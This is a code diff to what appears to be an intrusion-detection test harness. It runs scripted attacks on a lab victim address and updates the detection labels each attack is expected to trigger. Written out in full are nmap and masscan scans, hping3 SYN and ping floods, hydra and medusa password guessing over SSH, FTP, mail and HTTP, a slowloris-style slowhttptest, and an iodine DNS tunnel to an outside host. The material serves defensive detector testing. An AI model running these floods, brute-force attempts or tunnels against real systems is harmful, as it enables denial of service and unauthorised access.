@@ -66,7 +66,7 @@ class Network:
 
 def record(path):
     """tcpdump that is ready, to be ended with `stop`."""
-    command = inside("v", "tcpdump", "-i", "vic0", "-w", path, "-U", "-s", "300", "-B", "65536", "ip or arp")
+    command = inside("v", "tcpdump", "-i", "vic0", "-w", path, "-U", "-s", "1600", "-B", "65536", "ip or arp")
     dump = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
     dump.stderr.readline()
     time.sleep(0.3)
@@ -326,20 +326,20 @@ def attacks(words, folder):
         ("ping of sixteen hosts", ["nmap", "-n", "-sn", "-PE", "10.78.0.0/28"], ["icmp_sweep_bare"]),
         ("ARP search of a subnet", ["nmap", "-n", "-sn", "-PR", "10.77.0.0/24"], ["scan_arp"]),
         ("system by its answers", ["nmap", "-n", "-Pn", "-O", "-p20-30,80,81", VICTIM], ["scan_os"]),
-        ("versions of services", ["nmap", "-n", "-Pn", "-sV", "-sC", "-p21,25,80,110,143", VICTIM], ["http_tool", "scan_ports", "web_discovery"]),
+        ("versions of services", ["nmap", "-n", "-Pn", "-sV", "-sC", "-p21,25,80,110,143", VICTIM], ["scan_versions"]),
         ("SYN scan at full rate", ["masscan", "10.78.0.0/25", "-p1-100", "--rate", "3000", "--wait", "1", "--interface", "att0",
                                    "--router-mac", "VICTIM_MAC", "--source-ip", ATTACKER], ["scan_ports", "scan_hosts", "scan_mixed"]),
         ("SYN flood from many sources", ["hping3", "-q", "-S", "-p", "80", "--rand-source", "-i", "u150", "-c", "60000", VICTIM], ["flood_syn"]),
         ("SYN flood from one source", ["hping3", "-q", "-S", "-p", "80", "-i", "u150", "-c", "60000", VICTIM], ["flood_syn"]),
         ("ping flood", ["hping3", "-q", "-1", "-i", "u200", "-c", "40000", VICTIM], ["icmp_flood"]),
-        ("guessing over SSH", hydra + ["ssh://%s:22" % VICTIM], ["guess_password"]),
+        ("guessing over SSH", hydra + ["ssh://%s:22" % VICTIM], ["guess_password", "guess_ssh"]),
         ("guessing over FTP", hydra + ["ftp://%s" % VICTIM], ["guess_refused", "guess_entered"]),
         ("guessing over POP3", hydra + ["pop3://%s" % VICTIM], ["guess_refused", "guess_entered"]),
         ("guessing over IMAP", hydra + ["imap://%s" % VICTIM], ["guess_refused", "guess_entered"]),
         ("guessing over SMTP", hydra + ["smtp://%s" % VICTIM], ["guess_refused", "guess_entered"]),
         ("guessing over HTTP", hydra + ["http-get://%s/private" % VICTIM], ["guess_refused", "guess_http"]),
         ("guessing over FTP with medusa", ["medusa", "-h", VICTIM, "-u", USER, "-P", words, "-M", "ftp", "-t", "4"], ["guess_refused", "guess_entered"]),
-        ("guessing over SSH with medusa", ["medusa", "-h", VICTIM, "-u", USER, "-P", words, "-M", "ssh", "-t", "4"], ["guess_password"]),
+        ("guessing over SSH with medusa", ["medusa", "-h", VICTIM, "-u", USER, "-P", words, "-M", "ssh", "-t", "4"], ["guess_password", "guess_ssh"]),
         ("slow heads", ["slowhttptest", "-H", "-c", "200", "-r", "100", "-i", "5", "-l", "45", "-u", "http://%s/" % VICTIM], ["flood_slow"]),
         ("pages that do not exist", here + ["paths"], ["web_discovery"]),
         ("tunnel in DNS", ["sh", "-c", "iodine -f -r -P pw %s t.example & sleep 6; ping -q -c 300 -i 0.02 -s 600 10.79.0.1; kill %%1" % OUTSIDE],
